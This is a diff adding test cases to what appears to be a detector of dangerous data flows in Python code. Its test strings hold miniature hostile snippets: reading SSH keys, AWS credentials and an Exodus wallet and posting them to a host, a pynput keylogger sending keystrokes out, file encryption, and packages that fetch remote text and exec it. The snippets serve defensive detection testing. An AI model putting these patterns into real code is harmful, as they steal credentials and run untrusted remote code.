@@ -28,6 +28,9 @@ def flows(source: str) -> set[tuple[str, str]]:
         ("with open('/a/.ssh/id_rsa') as f:\n    requests.post(u, files={'f': f.read()})", ("credential", "network"), "with open('/a/notes') as f:\n    requests.post(u, files={'f': f.read()})"),
         ("requests.post(u, files={'f': open('/a/.ssh/id_rsa', 'rb')})", ("credential", "network"), "requests.post(u, files={'f': open('/a/notes', 'rb')})"),
         ("requests.post(u, files={'f': ('n', open(q, 'rb'))})", ("file", "network"), "open(q, 'w').write('a')\nrequests.post(u)"),
+        ("from pynput import keyboard\ndef p(k):\n    requests.post(u, data=str(k))\nkeyboard.Listener(on_press=p)", ("keys", "network"), "import threading\ndef p(k):\n    requests.post(u, data=str(k))\nthreading.Thread(target=p)"),
+        ("from cryptography.fernet import Fernet\nFernet(k).encrypt(open(q, 'rb').read())", ("file", "cipher"), "from cryptography.fernet import Fernet\nopen(q, 'rb').read()\nFernet(k).encrypt(b'a')"),
+        ("import site\nopen(site.getsitepackages()[0] + '/a.py', 'w')", ("folder", "open"), "import site\nsite.getsitepackages()\nopen('a.py', 'w')"),
         ("requests.get(u + os.getcwd())", ("folder", "network"), "requests.get(u + str(len(os.getcwd())))"),
         ("p = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\nrequests.post(u, data=open(p, 'rb').read())", ("credential", "network"), "p = os.path.join(os.getenv('APPDATA'), 'app.log')\nrequests.post(u, data=open(p, 'rb').read())"),
         ("from pathlib import Path\nrequests.post(u, data=(Path.home() / '.aws' / 'credentials').read_text())", ("credential", "network"), "from pathlib import Path\nrequests.post(u, data=(Path.home() / 'x').read_text())"),
@@ -141,3 +144,18 @@ def test_unknown_parts_of_a_layer_do_not_hide_the_rest() -> None:
 )
 def test_text_that_is_not_run_is_no_layer(source: str) -> None:
     assert not any(layer.parsed for layer in facts_of(source).layers)
+
+
+@pytest.mark.parametrize(
+    ("whole", "a", "b"),
+    [
+        ("from .b import *\nexec(get())", "import requests\ndef get(): return requests.get('u').text", "from .a import *"),
+        ("import requests\nfrom . import b\nfrom . import a\nexec(a.value)", "value = ''",
+         "import requests\nfrom . import a\na.value = requests.get('u').text"),
+        ("from .b import run\nrun()", "import requests\nfrom . import b\ndef get(): return requests.get('u').text",
+         "from . import a\ndef run(): exec(a.get())"),
+    ],
+)  # fmt: skip
+def test_modules_that_a_package_imports_are_complete_when_it_is_evaluated(whole: str, a: str, b: str) -> None:
+    found = package(p=whole, p__a=a, p__b=b)
+    assert ("remote", "code") in {(flow.source, flow.sink) for flow in found.flows}
